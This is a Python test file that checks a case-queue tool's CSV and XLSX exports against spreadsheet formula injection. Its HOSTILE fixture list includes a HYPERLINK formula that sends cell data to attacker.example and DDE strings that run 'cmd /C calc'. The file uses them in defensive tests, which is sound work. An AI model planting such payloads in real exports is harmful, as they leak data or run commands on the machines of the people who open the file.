"""The queue's CSV and XLSX exports hold the cells the page shows, and nothing a spreadsheet would evaluate."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from redline.web.queue_export import csv_bytes, defused, xlsx_bytes
from redline.web.queue_table import Table

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _table(titles: list[str]) -> Table:
    return Table(
        keys=["id", "title", "age"],
        headings=["案件编号", "案件", "案龄（天）"],
        rows=[(None, [str(n + 1), t, "—" if n % 2 else str(n)]) for n, t in enumerate(titles)],
    )


def test_a_csv_cell_that_a_spreadsheet_would_run_is_kept_as_text() -> None:
    body = csv_bytes(_table([*HOSTILE, "普通标题 = 不是公式", "多行\n标题"]))
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == ["案件编号", "案件", "案龄（天）"]
    titles = [r[1] for r in rows[1:]]
    assert titles[: len(HOSTILE)] == ["'" + t for t in HOSTILE]
    assert titles[len(HOSTILE) :] == ["普通标题 = 不是公式", "多行\n标题"]
    assert all(not t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)
    assert defused("—") == "—" and defused("12") == "12"


def test_an_xlsx_cell_is_a_string_or_a_number_never_a_formula() -> None:
    body = xlsx_bytes(_table([*HOSTILE, "普通标题", "控制\x01字符"]), "待办队列")
    sheet = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    book = load_workbook(io.BytesIO(body))
    ws = book["待办队列"]
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert rows[0] == ["案件编号", "案件", "案龄（天）"]
    # (XML reads a carriage return back as a line feed)
    assert [r[1] for r in rows[1:]] == [*HOSTILE[:4], "\t=1+1", "\n=1+1", "普通标题", "控制字符"]
    assert all(c.data_type in ("s", "n") for row in ws.iter_rows() for c in row)
    assert rows[1][0] == 1 and rows[1][2] == 0 and rows[2][2] == "—"  # numbers stay numbers
